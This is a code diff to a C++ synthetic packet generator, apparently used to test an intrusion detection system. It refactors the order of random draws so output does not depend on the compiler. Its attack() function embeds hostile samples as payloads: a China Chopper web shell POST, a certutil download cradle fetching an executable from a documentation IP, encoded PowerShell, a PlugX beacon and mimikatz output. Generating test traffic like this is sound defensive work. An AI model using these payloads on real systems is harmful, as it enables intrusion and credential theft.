@@ -31,7 +31,15 @@ class Traffic {
   }
   bool p(double x) { return std::bernoulli_distribution(x)(rng_); }
 
-  IpAddr home() { return IpAddr::v4(0x0A010000U | (1 + u(250)) << 8 | (1 + u(250))); }
+  // Every random draw is its own statement, in the order the draws are made: operands and
+  // function arguments are evaluated in an order the language leaves open (GCC and Clang
+  // differ), so a draw inside one would make the traffic of a seed depend on the compiler.
+  // The order is the one GCC's builds made before this was fixed, so their captures are unchanged.
+  IpAddr home() {
+    const std::uint32_t hi = 1 + u(250);
+    const std::uint32_t lo = 1 + u(250);
+    return IpAddr::v4(0x0A010000U | hi << 8 | lo);
+  }
   IpAddr internet() {
     static constexpr std::uint32_t kNets[] = {0xC6336400U, 0xCB007100U, 0xC0000200U};  // RFC 5737
     return IpAddr::v4(kNets[u(3)] | (1 + u(250)));
@@ -52,6 +60,21 @@ class Traffic {
     std::string s;
     for (std::size_t i = 0; i < n; ++i) s += static_cast<char>('a' + u(26));
     return s;
+  }
+
+  /// A TCP frame from a home host's ephemeral port to an internet host's `dp`.
+  FrameSpec out(std::uint16_t dp, std::uint8_t flags, std::vector<std::uint8_t> payload) {
+    const std::uint16_t sp = eph();
+    const IpAddr d = internet();
+    const IpAddr s = home();
+    return tcp(s, d, sp, dp, flags, std::move(payload));
+  }
+  /// A TCP frame from an internet host's ephemeral port to a home host's `dp`.
+  FrameSpec in(std::uint16_t dp, std::uint8_t flags, std::vector<std::uint8_t> payload) {
+    const std::uint16_t sp = eph();
+    const IpAddr d = home();
+    const IpAddr s = internet();
+    return tcp(s, d, sp, dp, flags, std::move(payload));
   }
 
   FrameSpec tcp(IpAddr s, IpAddr d, std::uint16_t sp, std::uint16_t dp, std::uint8_t flags,
@@ -113,17 +136,21 @@ class Traffic {
       case 0:
       case 1:
       case 2: {  // HTTP request
-        const std::string req = "GET /" + word(3 + u(10)) + ".html HTTP/1.1\r\nHost: www." +
-                                word(6) +
+        const std::string host = word(6);
+        const std::string page = word(3 + u(10));
+        const std::string req = "GET /" + page + ".html HTTP/1.1\r\nHost: www." + host +
                                 ".example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
-        return build_frame(tcp(home(), internet(), eph(), 80, 0x18, b(req)));
+        return build_frame(out(80, 0x18, b(req)));
       }
       case 3: {  // HTTP response
         std::string body(200 + u(1200), 'x');
         for (auto& c : body) c = static_cast<char>('a' + u(26));
         const std::string resp = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " +
                                  std::to_string(body.size()) + "\r\n\r\n" + body;
-        return build_frame(tcp(internet(), home(), 80, eph(), 0x18, b(resp)));
+        const std::uint16_t dp = eph();
+        const IpAddr d = home();
+        const IpAddr src = internet();
+        return build_frame(tcp(src, d, 80, dp, 0x18, b(resp)));
       }
       case 4:  // DNS query
         return dns_frame("www." + word(4 + u(8)) + ".com");
@@ -133,11 +160,12 @@ class Traffic {
         d[0] = 0x17;
         d[1] = 0x03;
         d[2] = 0x03;
-        return build_frame(tcp(home(), internet(), eph(), 443, 0x18, d));
+        return build_frame(out(443, 0x18, d));
       }
       case 6: {  // TCP handshake / ACKs
         static constexpr std::uint8_t kFlags[] = {0x02, 0x12, 0x10, 0x11, 0x14};
-        return build_frame(tcp(home(), internet(), eph(), 443, kFlags[u(5)], {}));
+        const std::uint8_t flags = kFlags[u(5)];
+        return build_frame(out(443, flags, {}));
       }
       case 7: {  // ICMP echo
         FrameSpec f;
@@ -150,7 +178,10 @@ class Traffic {
       }
       case 8: {  // IPv6 web
         const std::string req = "GET / HTTP/1.1\r\nHost: v6." + word(5) + ".example\r\n\r\n";
-        return build_frame(tcp(home6(), internet6(), eph(), 80, 0x18, b(req)));
+        const std::uint16_t sp = eph();
+        const IpAddr d = internet6();
+        const IpAddr src = home6();
+        return build_frame(tcp(src, d, sp, 80, 0x18, b(req)));
       }
       default: {  // IPv6 DNS, sometimes with a hop-by-hop header
         FrameSpec f;
@@ -168,42 +199,42 @@ class Traffic {
   }
 
   std::vector<std::uint8_t> attack() {
-    switch (u(16)) {
-      case 0:  // NULL scan
-        return build_frame(
-            tcp(internet(), home(), eph(), static_cast<std::uint16_t>(1 + u(1024)), 0x00, {}));
-      case 1:  // Xmas scan
-        return build_frame(
-            tcp(internet(), home(), eph(), static_cast<std::uint16_t>(1 + u(1024)), 0x29, {}));
+    const std::uint32_t kind = u(16);
+    switch (kind) {
+      case 0:    // NULL scan
+      case 1: {  // Xmas scan
+        const auto dp = static_cast<std::uint16_t>(1 + u(1024));
+        return build_frame(in(dp, kind == 0 ? 0x00 : 0x29, {}));
+      }
       case 2:  // SYN-FIN
-        return build_frame(tcp(internet(), home(), eph(), 22, 0x03, {}));
+        return build_frame(in(22, 0x03, {}));
       case 3:  // inbound SMB
-        return build_frame(tcp(internet(), home(), eph(), 445, 0x02, {}));
+        return build_frame(in(445, 0x02, {}));
       case 4:  // inbound RDP
-        return build_frame(tcp(internet(), home(), eph(), 3389, 0x02, {}));
+        return build_frame(in(3389, 0x02, {}));
       case 5: {  // China Chopper
         const std::string body =
             "POST /upload/1.php HTTP/1.1\r\nHost: intranet\r\nContent-Type: "
             "application/x-www-form-urlencoded\r\n\r\ncaidao=@eval(base64_decode($_POST[z0]));&z0="
             "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs=";
-        return build_frame(tcp(internet(), home(), eph(), 80, 0x18, b(body)));
+        return build_frame(in(80, 0x18, b(body)));
       }
       case 6: {  // PlugX beacon
         const std::string req = "POST /update?wd=" + word(8) +
                                 " HTTP/1.1\r\nX-Session: 0\r\nX-Status: 0\r\nX-Size: 61456\r\n"
                                 "X-Sn: 1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0)\r\n\r\n";
-        return build_frame(tcp(home(), internet(), eph(), 443, 0x18, b(req)));
+        return build_frame(out(443, 0x18, b(req)));
       }
       case 7: {  // encoded PowerShell
         const std::string s =
             "cmd /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA";
-        return build_frame(tcp(internet(), home(), eph(), 5985, 0x18, b(s)));
+        return build_frame(in(5985, 0x18, b(s)));
       }
       case 8: {  // reverse shell banner
         const std::string s =
             "Microsoft Windows [Version 10.0.17763.1]\r\n(c) 2018 Microsoft "
             "Corporation.\r\n\r\nC:\\>";
-        return build_frame(tcp(home(), internet(), eph(), 4444, 0x18, b(s)));
+        return build_frame(out(4444, 0x18, b(s)));
       }
       case 9:  // DNS to a dynamic-DNS zone
         return dns_frame(word(7) + ".3322.org");
@@ -218,10 +249,13 @@ class Traffic {
       }
       case 11: {  // certutil download cradle
         const std::string s = "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe";
-        return build_frame(tcp(internet(), home(), eph(), 445, 0x18, b(s)));
+        return build_frame(in(445, 0x18, b(s)));
       }
-      case 12:  // trusted internal scanner (pass rule)
-        return build_frame(tcp(IpAddr::v4(0x0AFFFF01), home(), eph(), 445, 0x02, {}));
+      case 12: {  // trusted internal scanner (pass rule)
+        const std::uint16_t sp = eph();
+        const IpAddr d = home();
+        return build_frame(tcp(IpAddr::v4(0x0AFFFF01), d, sp, 445, 0x02, {}));
+      }
       case 13: {  // memcached amplification probe
         FrameSpec f;
         f.src = internet();
@@ -236,14 +270,13 @@ class Traffic {
         return build_frame(f);
       }
       case 14: {  // truncated frame
-        auto fr =
-            build_frame(tcp(home(), internet(), eph(), 80, 0x18, b("GET / HTTP/1.1\r\n\r\n")));
+        auto fr = build_frame(out(80, 0x18, b("GET / HTTP/1.1\r\n\r\n")));
         fr.resize(14 + 20 + 8);
         return fr;
       }
       default: {  // mimikatz output over a tunnel
         const std::string s = "mimikatz # sekurlsa::logonpasswords\r\nAuthentication Id : 0 ; 999";
-        return build_frame(tcp(home(), internet(), eph(), 8443, 0x18, b(s)));
+        return build_frame(out(8443, 0x18, b(s)));
       }
     }
   }
